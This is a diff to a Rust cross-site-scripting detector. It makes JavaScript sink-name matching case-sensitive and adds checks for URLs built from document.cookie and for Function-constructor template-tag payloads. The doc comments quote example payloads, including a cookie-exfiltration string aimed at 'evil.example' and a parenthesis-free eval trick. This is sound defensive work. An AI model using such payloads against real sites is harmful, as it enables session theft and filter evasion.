@@ -33,67 +33,66 @@ fn is_ident(b: u8) -> bool {
 }
 
 /// Globals and members through which injected script acts. These are the browser's API, the
-/// thing a payload must reach to do harm.
+/// thing a payload must reach to do harm. JavaScript names are case-sensitive, so only the
+/// API's own spelling reaches it (`Alert(1)` in a title, `ALERT` run nothing); VBScript's
+/// `MsgBox` is matched in any case, as IE's VBScript engine reads it.
 fn sink(name: &[u8]) -> bool {
-    let mut buf = [0u8; 24];
-    if name.len() > buf.len() {
+    if name.len() > 24 {
         return false;
     }
-    for (d, s) in buf.iter_mut().zip(name) {
-        *d = s.to_ascii_lowercase();
-    }
-    matches!(
-        &buf[..name.len()],
-        b"alert"
-            | b"prompt"
-            | b"confirm"
-            | b"eval"
-            | b"settimeout"
-            | b"setinterval"
-            | b"execscript"
-            | b"function"
-            | b"constructor"
-            | b"fetch"
-            | b"import"
-            | b"document"
-            | b"window"
-            | b"self"
-            | b"top"
-            | b"parent"
-            | b"frames"
-            | b"globalthis"
-            | b"this"
-            | b"location"
-            | b"xmlhttprequest"
-            | b"atob"
-            | b"string"
-            | b"fromcharcode"
-            | b"open"
-            | b"print"
-            | b"console"
-            | b"navigator"
-            | b"msgbox"
-            | b"cookie"
-            | b"write"
-            | b"writeln"
-            | b"innerhtml"
-            | b"outerhtml"
-            | b"insertadjacenthtml"
-            | b"src"
-            | b"href"
-            | b"domain"
-            | b"body"
-            | b"createelement"
-            | b"appendchild"
-            | b"sendbeacon"
-            | b"unescape"
-            | b"decodeuricomponent"
-            | b"reflect"
-            | b"jquery"
-            // jQuery's script loaders, reached through `$` as well ([`jquery_loader`])
-            | b"getscript"
-            | b"globaleval"
-    )
+    name.eq_ignore_ascii_case(b"msgbox")
+        || matches!(
+            name,
+            b"alert"
+                | b"prompt"
+                | b"confirm"
+                | b"eval"
+                | b"setTimeout"
+                | b"setInterval"
+                | b"execScript"
+                | b"function"
+                | b"Function"
+                | b"constructor"
+                | b"fetch"
+                | b"import"
+                | b"document"
+                | b"window"
+                | b"self"
+                | b"top"
+                | b"parent"
+                | b"frames"
+                | b"globalThis"
+                | b"this"
+                | b"location"
+                | b"XMLHttpRequest"
+                | b"atob"
+                | b"String"
+                | b"fromCharCode"
+                | b"open"
+                | b"print"
+                | b"console"
+                | b"navigator"
+                | b"cookie"
+                | b"write"
+                | b"writeln"
+                | b"innerHTML"
+                | b"outerHTML"
+                | b"insertAdjacentHTML"
+                | b"src"
+                | b"href"
+                | b"domain"
+                | b"body"
+                | b"createElement"
+                | b"appendChild"
+                | b"sendBeacon"
+                | b"unescape"
+                | b"decodeURIComponent"
+                | b"Reflect"
+                | b"jQuery"
+                // jQuery's script loaders, reached through `$` as well ([`jquery_loader`])
+                | b"getScript"
+                | b"globalEval"
+        )
 }
 
 /// Whether `word` names a sink the injected code could reach (`alert`, `eval`, `document`…).
@@ -155,12 +154,34 @@ fn direct_sink(name: &[u8]) -> bool {
     is_direct_sink_name(name)
 }
 
-/// The compare behind [`direct_sink`].
+/// The compare behind [`direct_sink`]: JavaScript's spelling of the name (its identifiers
+/// are case-sensitive: `Prompt(1)` calls nothing), VBScript's `MsgBox` in any case.
 fn is_direct_sink_name(name: &[u8]) -> bool {
-    DIRECT_SINKS
-        .iter()
-        .any(|s| s.len() == name.len() && s.eq_ignore_ascii_case(name))
+    DIRECT_SINKS.iter().zip(DIRECT_SPELLINGS).any(|(s, js)| {
+        s.len() == name.len()
+            && if *s == b"msgbox" {
+                s.eq_ignore_ascii_case(name)
+            } else {
+                js == name
+            }
+    })
 }
+
+/// The [`DIRECT_SINKS`] as JavaScript spells them, in order.
+const DIRECT_SPELLINGS: [&[u8]; 12] = [
+    b"insertAdjacentHTML",
+    b"alert",
+    b"prompt",
+    b"confirm",
+    b"eval",
+    b"setTimeout",
+    b"setInterval",
+    b"fetch",
+    b"execScript",
+    b"msgbox",
+    b"atob",
+    b"import",
+];
 
 /// Read an expression head at `i`: `ident(.ident | [..])*` and what ends it. Returns
 /// (saw a sink, saw member access, index after the chain).
@@ -2337,6 +2358,107 @@ pub fn template_injection(s: &str) -> bool {
                 || has(b"fromcharcode")
                 || has(b"window")
                 || has(b"document")))
+}
+
+/// Longest string literal read back from a `+` before `document.cookie`.
+const MAX_URL_LITERAL: usize = 256;
+
+/// `'//evil.example/?c='+document.cookie`, `"https://x/"+escape(document.cookie)`: a URL
+/// built from the page's cookies. Whatever then loads it (an image, `XMLHttpRequest.open`,
+/// a redirect) sends the session to that host; a page that reads its own cookies parses
+/// them (`'; ' + document.cookie`) and builds no URL of them.
+pub fn cookie_to_url(s: &str) -> bool {
+    let b = s.as_bytes();
+    let mut seen = 0;
+    for p in memchr::memchr_iter(b'.', b) {
+        if seen >= 16 {
+            break;
+        }
+        if !(p >= 8
+            && b.len() - (p - 8) >= COOKIE.len()
+            && &b[p - 8..p - 8 + COOKIE.len()] == COOKIE)
+        {
+            continue;
+        }
+        seen += 1;
+        // one wrapping call (`escape(`, `btoa(`, `encodeURIComponent(`) may stand between
+        let mut i = p - 8;
+        i = b[..i].trim_ascii_end().len();
+        if i > 0 && b[i - 1] == b'(' {
+            let mut j = i - 1;
+            let name_end = j;
+            while j > 0 && is_ident(b[j - 1]) && name_end - j < 24 {
+                j -= 1;
+            }
+            if j == name_end {
+                continue;
+            }
+            i = b[..j].trim_ascii_end().len();
+        }
+        if i == 0 || b[i - 1] != b'+' {
+            continue;
+        }
+        i = b[..i - 1].trim_ascii_end().len();
+        let Some(&q) = b[..i].last() else { continue };
+        if !matches!(q, b'\'' | b'"' | b'`') {
+            continue;
+        }
+        let lo = (i - 1).saturating_sub(MAX_URL_LITERAL);
+        let Some(open) = memchr::memrchr(q, &b[lo..i - 1]).map(|o| lo + o) else {
+            continue;
+        };
+        let lit = &b[open + 1..i - 1];
+        let starts =
+            |pfx: &[u8]| lit.len() > pfx.len() && lit[..pfx.len()].eq_ignore_ascii_case(pfx);
+        if (lit.starts_with(b"//") && lit.get(2).is_some_and(u8::is_ascii_alphanumeric))
+            || starts(b"http://")
+            || starts(b"https://")
+        {
+            return true;
+        }
+    }
+    false
+}
+
+/// Longest template body read after ``Function` ``.
+const MAX_TEMPLATE_BODY: usize = 256;
+
+/// ``new Function`alert\`1\``` ``, ``Function`alert\x281\x29```: the `Function`
+/// constructor called as a template tag compiles the template's text, and `new` (or a
+/// second template) runs it: a call with no parenthesis for filters that look for one.
+/// The text must call or pass a sink. Inline code in prose (``the `Function` constructor``)
+/// has the backtick before the name, not a template after it.
+pub fn function_template(s: &str) -> bool {
+    let b = s.as_bytes();
+    for p in memchr::memmem::find_iter(b, b"Function`").take(8) {
+        if p > 0 && (is_ident(b[p - 1]) || matches!(b[p - 1], b'`' | b'.')) {
+            continue;
+        }
+        let body_start = p + 9;
+        let mut body = Vec::with_capacity(64);
+        let mut i = body_start;
+        let mut closed = false;
+        while i < b.len() && i - body_start < MAX_TEMPLATE_BODY {
+            match b[i] {
+                b'\\' if i + 1 < b.len() => {
+                    body.push(b[i + 1]);
+                    i += 2;
+                }
+                b'`' => {
+                    closed = true;
+                    break;
+                }
+                c => {
+                    body.push(c);
+                    i += 1;
+                }
+            }
+        }
+        if closed && code_mentions_sink(&body) {
+            return true;
+        }
+    }
+    false
 }
 
 #[cfg(test)]
